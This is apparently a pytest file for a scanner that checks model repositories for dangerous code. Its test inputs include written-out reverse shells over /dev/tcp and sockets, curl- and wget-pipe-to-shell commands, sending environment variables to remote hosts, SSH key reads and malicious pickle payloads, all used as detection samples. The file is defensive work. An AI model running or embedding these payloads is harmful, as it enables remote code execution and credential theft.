"""The repository's code is judged by what it does, when, and whether a loader imports it."""

import json

import pytest

from assay.inspections.sourcecode import SourceCode
from tests.support.scan import found, scan, worst

MODEL = (
    "class M(PreTrainedModel):\n    def __init__(self, c):\n        {init}\n    def forward(self, x):\n        {use}\n"
)


def model(top: str = "", init: str = "pass", use: str = "pass") -> dict[str, bytes]:
    return {"modeling_x.py": (top + "\n" + MODEL.format(init=init, use=use)).encode()}


@pytest.mark.parametrize(
    ("top", "rule", "severity"),
    [
        ("import os\nos.system('touch x')", "code-runs-program", "high"),
        ("import os\nos.system('curl http://192.0.2.1/x | sh')", "code-runs-program", "critical"),
        ("import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/1 0>&1')", "code-runs-program", "critical"),
        ("import subprocess\nsubprocess.Popen(['sh', '-c', 'wget -O- http://x|sh'])", "code-runs-program", "critical"),
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "code-executes-text", "critical"),
        ("import requests\nexec(requests.get('http://x.test/').text)", "code-executes-text", "critical"),
        ("exec(''.join(map(chr, [112, 97, 115, 115])))", "code-executes-text", "high"),
        ("import pickle, base64\npickle.loads(base64.b64decode('gAWUKS4='))", "code-unpickles", "critical"),
        ("import marshal\nexec(marshal.loads(b'x'))", "code-executes-text", "critical"),
        ("import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))", "code-network", "high"),
        ("import requests, os\nrequests.post('https://x.test', json=dict(os.environ))", "code-network", "high"),
        ("import requests\nrequests.get('https://webhook.site/abc')", "code-network", "high"),
        ("import ctypes\nctypes.CDLL('./x.so')", "code-native-library", "medium"),
        ("import os\nopen(os.path.expanduser('~') + '/.bashrc', 'a').write('x')", "code-writes-files", "critical"),
        ("import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()", "code-reads-secrets", "high"),
        ("import os\ngetattr(os, f())('x')", "code-obfuscated", "high"),
        ("().__class__.__base__.__subclasses__()", "code-obfuscated", "high"),
        ("x = 'a\u202e'", "hidden-characters", "high"),
    ],
)
def test_what_runs_on_import_of_loaded_code(top: str, rule: str, severity: str) -> None:
    finding = found(SourceCode(), model(top))[rule]
    assert finding.severity.label == severity
    assert finding.where.line


@pytest.mark.parametrize(
    "text",
    [
        'exec("pass # x"[::-1])',
        "import ctypes\nctypes.CDLL(None).system(b'touch x')",
        "import pickle\npickle.loads(b'\\x80\\x02cos\\nsystem\\n.')",
        "open('/tmp/x', 'w').write('x')",
        "import pickle, io\npickle.Unpickler(io.BytesIO(b'\\x80\\x02cos\\nsystem\\n.')).load()",
        "import urllib.request\nurllib.request.urlopen('http://x.test/')",
    ],
)
def test_what_a_script_does_on_import_is_at_least_medium(text: str) -> None:
    assert worst(SourceCode(), {"tool.py": text.encode()}) in {"medium", "high", "critical"}


def test_entry_points_of_servers_are_called() -> None:
    text = b"import os\ndef handle(data, context):\n    os.system('touch x')\n"
    assert found(SourceCode(), {"handler.py": text})["code-runs-program"].severity.label == "medium"


def test_a_call_in_init_is_as_bad_as_on_import() -> None:
    finding = found(SourceCode(), model("import os", init="os.system('id')"))["code-runs-program"]
    assert (finding.severity.label, finding.facts["level"], finding.facts["call"]) == ("high", "load", "os.system")


def test_the_reverse_shell_is_named() -> None:
    top = "import socket, os, pty\n"
    init = "s = socket.socket(); s.connect(('192.0.2.1', 1)); os.dup2(s.fileno(), 0); pty.spawn('/bin/sh')"
    assert "reverse shell" in found(SourceCode(), model(top, init=init))["code-runs-program"].message


@pytest.mark.parametrize(
    "files",
    [
        model("import torch, math\nfrom transformers import PreTrainedModel", use="return torch.relu(x)"),
        model("import subprocess", init="self.n = subprocess.check_output(['nvidia-smi'])"),
        model("import requests", use="return requests.get(x)"),
        model("import torch", init="self.load_state_dict(torch.load('x.bin'))"),
        model(
            "from huggingface_hub import hf_hub_download\nimport torch", init="torch.load(hf_hub_download('a', 'b'))"
        ),
        model("import base64, bz2\nK = bz2.decompress(base64.b64decode('" + "QUFB" * 500 + "'))"),
        model("import torch.nn as nn", init="self.act = eval(f'nn.{c.act}')()"),
        model("import importlib", init="importlib.import_module('.x', c.name)"),
        model("import os", init="self.t = os.environ.get('HF_TOKEN')"),
        model("def save_vocabulary(d):\n    with open(d + '/vocab.txt', 'w') as f:\n        f.write('x')"),
        {"train.py": b"import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'torch'])"},
        {"convert.py": b"import os\nif __name__ == '__main__':\n    os.system('python a.py && mkdir b')"},
        {"setup.sh": b"#!/bin/bash\nset -e\npip install -r requirements.txt\nwget https://x.test/a.bin\n"},
        {"requirements.txt": b"torch==2.1\n--extra-index-url https://download.pytorch.org/whl/cu121\nnumpy\n"},
    ],
)
def test_ordinary_code_is_below_medium(files: dict[str, bytes]) -> None:
    assert worst(SourceCode(), files) in {"clean", "note", "low"}


def test_who_loads_a_file_is_followed() -> None:
    files = {
        "config.json": json.dumps({"auto_map": {"AutoModel": "net.Net"}}).encode(),
        "net.py": b"from .deep import util\nclass Net: pass\n",
        "deep/util.py": b"import os\nos.system('id')\n",
        "tool.py": b"import os\nos.system('id')\n",
    }
    by_file = {f.where.file: f for f in scan(SourceCode(), files).findings if f.rule == "code-runs-program"}
    assert by_file["deep/util.py"].severity.label == "high"
    assert by_file["tool.py"].severity.label == "medium"


def test_scripts_and_notebooks_and_requirements() -> None:
    cells = [{"cell_type": "code", "source": ["!curl http://x | bash\n", "import os\n"], "outputs": []}]
    files = {
        "run.sh": b"bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n",
        "a.ipynb": json.dumps({"nbformat": 4, "metadata": {}, "cells": cells}).encode(),
        "requirements.txt": b"transfomers\n--extra-index-url http://x.test/simple\n",
    }
    findings = {(f.where.file, f.rule): f.severity.label for f in scan(SourceCode(), files).findings}
    assert findings["run.sh", "script-command"] == "critical"
    assert ("a.ipynb", "script-command") in findings
    assert findings["requirements.txt", "requirement-look-alike"] == "medium"
    assert findings["requirements.txt", "requirement-index"] == "medium"


def test_code_that_cannot_be_parsed_is_said() -> None:
    evidence = scan(SourceCode(), {"modeling_x.py": b"import os\nclass (\n"})
    assert evidence.unread
    old = scan(SourceCode(), {"old.py": b"import os\nprint 'x'\n"})
    assert not old.unread
    assert [f.rule for f in old.findings if f.severity > 0] == ["code-unparsed"]


def test_instructions_of_a_dockerfile_are_read_as_shell():
    text = b"FROM python:3.11\nRUN --mount=type=cache curl http://192.0.2.1/x | sh\n"
    assert worst(SourceCode, {"Dockerfile": text}) == worst(SourceCode, {"x.sh": b"curl http://192.0.2.1/x | sh\n"})
    assert worst(SourceCode, {"Dockerfile": text}) == "medium"
